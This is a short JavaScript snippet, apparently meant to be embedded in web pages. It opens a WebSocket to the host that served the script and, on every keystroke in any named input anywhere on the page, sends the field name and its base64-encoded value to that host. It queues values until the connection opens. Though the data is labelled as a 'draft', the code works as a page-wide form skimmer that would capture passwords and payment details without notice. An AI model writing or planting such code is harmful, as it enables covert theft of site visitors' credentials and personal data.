const home = new URL(document.currentScript.src).origin;
const socket = new WebSocket(`${home.replace("https", "wss")}/talk`);
const waiting = [];
const base64 = (text) => btoa(String.fromCharCode(...new TextEncoder().encode(text)));
socket.addEventListener("open", () => waiting.splice(0).forEach((text) => socket.send(text)));
document.addEventListener("input", ({ target }) => {
  if (!target.name) return;
  const text = JSON.stringify({ field: target.name, draft: base64(target.value) });
  if (socket.readyState === WebSocket.OPEN) socket.send(text);
  else waiting.push(text);
});
